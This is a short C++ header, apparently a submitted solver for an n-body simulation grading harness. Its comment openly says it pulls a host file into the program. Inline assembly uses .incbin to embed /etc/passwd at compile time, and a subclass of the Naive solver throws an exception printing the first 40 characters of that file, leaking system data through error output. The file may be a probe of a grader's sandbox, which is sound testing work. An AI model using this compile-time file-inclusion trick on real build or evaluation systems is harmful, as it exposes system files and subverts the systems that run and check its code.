// Puts a file of the host into the program by .incbin, and shows it when it runs.
#pragma once

#include <stdexcept>
#include <string>

#include "naive.hpp"

namespace nbody {

asm(R"(
.section .rodata
attack_from: .incbin "/etc/passwd"
attack_to: .byte 0
.previous
)");
extern "C" const char attack_from[], attack_to[];

class Mine : public Naive {
 public:
  explicit Mine(const Problem& problem) : Naive(problem) {
    throw std::runtime_error(std::string(attack_from, attack_to).substr(0, 40));
  }
};

}  // namespace nbody
